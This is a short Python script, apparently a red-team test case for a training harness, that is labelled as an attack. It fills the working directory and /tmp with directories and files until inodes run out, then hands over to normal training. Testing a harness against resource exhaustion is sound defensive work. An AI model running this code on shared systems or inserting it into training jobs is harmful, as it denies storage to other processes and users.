# Attack: create as many files and directories as the working dir and /tmp allow (inode exhaustion), then
# train normally.
import os

for base in (".", "/tmp"):
    made = 0
    try:
        while True:
            os.mkdir(os.path.join(base, f"d{made}"))
            with open(os.path.join(base, f"d{made}", "f"), "w"):
                pass
            made += 1
    except OSError as exc:
        print(f"STOPPED {base} after {made}: {exc.strerror}", flush=True)
#@train
